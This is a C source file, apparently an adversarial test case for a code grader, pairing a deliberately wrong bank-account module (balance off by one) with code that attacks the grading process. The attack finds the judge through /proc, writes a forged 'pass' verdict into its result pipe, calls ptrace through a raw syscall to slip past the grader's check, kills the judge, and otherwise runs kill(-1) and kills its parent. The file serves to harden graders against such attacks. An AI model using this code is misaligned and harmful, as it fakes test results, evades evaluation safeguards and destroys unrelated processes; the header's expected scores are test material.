/* lesson: 02-bank
 * Goes for the judge (the tests' process, which writes the verdict): at its
 * first call in each test it looks through /proc for it (its name, or
 * "--result" on its command line), writes a forged "pass NAME" into its
 * result pipe (/proc/PID/fd/N), ptrace-attaches to it by a raw system call
 * and kills it. Where no judge is to be seen (its own pid namespace) it
 * strikes blind: kill(-1) and its parent. Its balance is off by one, so
 * every test fails unless a forged pass counts. The judge is out of sight,
 * or not its to signal or read, or, where both run as one user without
 * namespaces, out of its reach but for a kill (the judge is not dumpable:
 * no ptrace, no /proc/PID/fd) and dies without a verdict: never a pass.
 * In deposit_and_balance it then shows what it met (ENOENT: no judge in
 * sight; EPERM: not allowed; none: killed). Where it can kill, a test that
 * runs beside deposit_and_balance may kill that test's judge first (the
 * grader runs two tests at a time): then the grader names the judge's death.
 * Honest twin: 0.
 * expect-message: SIGABRT.* in refused_(ENOENT|EPERM|none) \(bank\.c:[0-9]+\)|tests' own process died \(SIGKILL\)
 * expect-max-score: 0
 */
#include "bank.h"

#include <dirent.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

@PROOF@

/* ptrace without libc's wrapper (the grader refuses a call to ptrace). */
static long raw(long n, long a, long b, long c)
{
    long r;
#if defined(__x86_64__)
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
                  x2 __asm__("x2") = c, x3 __asm__("x3") = 0;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    r = x0;
#else
#error "x86_64 or aarch64"
#endif
    return r;
}

/* A process's command line, arguments NUL-separated; its length. */
static size_t cmdline_of(const char *pid, char *buf, size_t cap)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    FILE *f = fopen(path, "r");
    size_t n = f ? fread(buf, 1, cap - 1, f) : 0;
    if (f)
        fclose(f);
    buf[n] = '\0';
    return n;
}

static const char *arg_after(const char *buf, size_t n, const char *flag)
{
    for (size_t i = 0; i < n; i += strlen(buf + i) + 1)
        if (strcmp(buf + i, flag) == 0 && i + strlen(flag) + 1 < n)
            return buf + i + strlen(flag) + 1;
    return NULL;
}

static int outcome = -1; /* what going for the judge met: ENOENT, EPERM, 0 */

static void go_for_the_judge(void)
{
    char mine[4096], theirs[4096];
    size_t nmine = cmdline_of("self", mine, sizeof mine);
    const char *test = arg_after(mine, nmine, "--test");
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0, err = ENOENT;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
            continue;
        size_t n = cmdline_of(e->d_name, theirs, sizeof theirs);
        const char *result = arg_after(theirs, n, "--result");
        const char *base = strrchr(theirs, '/');
        if (!result && strcmp(base ? base + 1 : theirs, "judge") != 0)
            continue;
        found++;
        pid_t pid = (pid_t)atoi(e->d_name);
        if (result && test) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%s", (int)pid, result);
            FILE *f = fopen(path, "w");
            if (f) {
                fprintf(f, "pass %s\n", test);
                fclose(f);
            }
        }
        long traced = raw(SYS_ptrace, PTRACE_ATTACH, pid, 0);
        if (traced == 0)
            raw(SYS_ptrace, PTRACE_DETACH, pid, 0);
        int killed = kill(pid, SIGKILL);
        err = killed == 0 ? 0 : errno;
    }
    if (d)
        closedir(d);
    if (!found) {
        kill(-1, SIGKILL); /* (never the caller itself) */
        kill(getppid(), SIGKILL);
    }
    outcome = err;
}

static pthread_once_t once = PTHREAD_ONCE_INIT;

static void attack(void)
{
    pthread_once(&once, go_for_the_judge);
    if (in_test("deposit_and_balance"))
        refused(outcome);
}

struct account {
    pthread_mutex_t lock;
    long balance;
};

account_t *account_new(long balance)
{
    attack();
    account_t *a = malloc(sizeof *a);
    if (!a)
        return NULL;
    pthread_mutex_init(&a->lock, NULL);
    a->balance = balance;
    return a;
}

void account_free(account_t *a)
{
    if (!a)
        return;
    pthread_mutex_destroy(&a->lock);
    free(a);
}

bool account_withdraw(account_t *a, long amount)
{
    pthread_mutex_lock(&a->lock);
    bool ok = a->balance >= amount;
    if (ok)
        a->balance -= amount;
    pthread_mutex_unlock(&a->lock);
    return ok;
}

void account_deposit(account_t *a, long amount)
{
    pthread_mutex_lock(&a->lock);
    a->balance += amount;
    pthread_mutex_unlock(&a->lock);
}

/* WRONG: one more than there is. */
long account_balance(account_t *a)
{
    pthread_mutex_lock(&a->lock);
    long b = a->balance + 1;
    pthread_mutex_unlock(&a->lock);
    return b;
}
